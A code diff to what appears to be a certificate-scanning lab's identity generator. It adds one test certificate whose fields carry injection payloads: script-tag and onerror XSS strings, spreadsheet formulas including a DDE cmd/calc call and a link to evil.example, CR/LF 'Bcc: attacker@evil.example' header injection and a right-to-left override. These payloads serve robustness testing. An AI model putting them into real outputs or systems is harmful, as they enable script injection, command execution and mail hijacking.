@@ -1,16 +1,18 @@
 /**
- * Certificate identities of the lab (names only, no keys): a deterministic pool of 64 subjects
+ * Certificate identities of the lab (names only, no keys): a deterministic pool of 65 subjects
  * derived from the seed, so the truth file is the same for the same seed even though keys are
  * generated afresh at every start (certs.ts turns identities into SecureContexts).
  *
  * Pools: Citrix factory defaults (`O=Citrix ANG, OU=NS Internal, CN=default XXXXXX`, self-signed,
  * serial 01, RSA-1024, a few RSA-2048), organisation certificates issued by the lab CA
  * (vpn.<org>.example or *.<org>.example), ordinary web sites, and legacy defaults (RSA-1024 and
- * RSA-512, served only over TLS 1.0).
+ * RSA-512, served only over TLS 1.0), and one hostile certificate issued by the lab CA whose names
+ * carry markup, quotes, a right-to-left override, a 300+ character name and CR/LF header-injection
+ * attempts (the `citrix-hostile-names` and `hostile-site` personas; see HOSTILE below).
  */
 import { prng, saltOf } from './rand.js';
 
-export type IdentityPool = 'citrix-default' | 'org' | 'site' | 'legacy';
+export type IdentityPool = 'citrix-default' | 'org' | 'site' | 'legacy' | 'hostile';
 export type KeyKind = 'rsa-512' | 'rsa-1024' | 'rsa-2048' | 'ec-p256';
 
 /** One certificate subject of the pool (what the truth file records). */
@@ -31,7 +33,44 @@ export interface CertIdentity {
   serial: string;
   /** Served only with TLS 1.0 and weak RSA ciphers. */
   legacy: boolean;
+  /**
+   * Exact subject attributes, in order, each encoded as a UTF8String as given (no DN-string parsing or
+   * escaping). Set for the hostile identity only: its values contain DN separators, quotes and
+   * control characters that a DN string cannot carry faithfully.
+   */
+  subjectAttrs?: ReadonlyArray<{ type: 'C' | 'O' | 'CN'; value: string }>;
 }
+
+const RLO = '\u202e';
+/** A 300+ character host-name-like string (labels ≤ 63, but the whole is over the 253 limit). */
+const LONG_NAME = `${[
+  'secure-remote-access-gateway-for-the-evil-clinic-north-wing-01',
+  'patient-portal-and-citrix-workspace-for-staff-working-at-home',
+  'this-label-goes-on-and-on-to-make-tables-and-mails-overflow-x',
+  'another-very-long-label-that-a-certificate-may-legally-carry',
+  'and-the-last-one-before-the-reserved-top-level-domain-of-tests',
+].join('.')}.example`;
+
+/**
+ * The hostile certificate (customer-controlled text on a real device: anyone can put anything in a
+ * certificate they upload or self-sign). Subject O and CN are UTF8Strings and carry markup, quotes,
+ * a right-to-left override (U+202E), the long name and a CR/LF "Bcc:" header-injection attempt; the
+ * CN starts with a spreadsheet formula. SANs are dNSName (IA5String): ASCII only, so no RLO there
+ * (IA5 cannot carry it), but a formula (first, so a joined SAN cell starts with it), CR/LF, quotes,
+ * markup and the long name are encoded byte for byte; one SAN is an ordinary name.
+ */
+export const HOSTILE = {
+  org: 'Evil "Clinic" <script>alert(1)</script>',
+  cn: `=HYPERLINK("https://evil.example/","open") '"><script>alert(2)</script> ${RLO}lmth.xedni ${LONG_NAME}\r\nBcc: attacker@evil.example`,
+  sans: [
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    'vpn.evil-clinic.example',
+    'x.example\r\nBcc: attacker@evil.example',
+    '"><img src=x onerror=alert(3)>.evil-clinic.example',
+    LONG_NAME,
+  ],
+  longName: LONG_NAME,
+} as const;
 
 export const LAB_CA_DN = 'C=NL, O=Edgewatch Lab, CN=Edgewatch Lab Issuing CA';
 const CITRIX_DEFAULT_DN = 'C=US, ST=California, L=San Jose, O=Citrix ANG, OU=NS Internal';
@@ -80,6 +119,7 @@ export const POOL_SIZES: Readonly<Record<IdentityPool, number>> = {
   org: 24,
   site: 12,
   legacy: 4,
+  hostile: 1,
 };
 
 const SALT = saltOf('identity');
@@ -99,7 +139,7 @@ function hexSerial(rnd: () => number): string {
   return (1 + Math.floor(rnd() * 7)).toString(16) + letters(rnd, 15, '0123456789abcdef');
 }
 
-/** The identity pool for a seed, in pool order: citrix-default, org, site, legacy. */
+/** The identity pool for a seed, in pool order: citrix-default, org, site, legacy, hostile. */
 export function identityPool(seed: number): CertIdentity[] {
   const rnd = prng(seed ^ SALT);
   const out: CertIdentity[] = [];
@@ -204,12 +244,32 @@ export function identityPool(seed: number): CertIdentity[] {
       legacy: true,
     });
   }
+  // Last, so the seeded draws of the other pools are unchanged by its presence.
+  for (let i = 0; i < POOL_SIZES.hostile; i++) {
+    push({
+      pool: 'hostile',
+      cn: HOSTILE.cn,
+      sans: [...HOSTILE.sans],
+      org: HOSTILE.org,
+      subject: `C=NL, O=${HOSTILE.org}, CN=${HOSTILE.cn}`,
+      issuer: LAB_CA_DN,
+      selfSigned: false,
+      key: 'ec-p256',
+      serial: hexSerial(rnd),
+      legacy: false,
+      subjectAttrs: [
+        { type: 'C', value: 'NL' },
+        { type: 'O', value: HOSTILE.org },
+        { type: 'CN', value: HOSTILE.cn },
+      ],
+    });
+  }
   return out;
 }
 
 /** Index of the first identity of a pool inside identityPool()'s array. */
 export function poolStart(pool: IdentityPool): number {
-  const order: IdentityPool[] = ['citrix-default', 'org', 'site', 'legacy'];
+  const order: IdentityPool[] = ['citrix-default', 'org', 'site', 'legacy', 'hostile'];
   let start = 0;
   for (const p of order) {
     if (p === pool) return start;
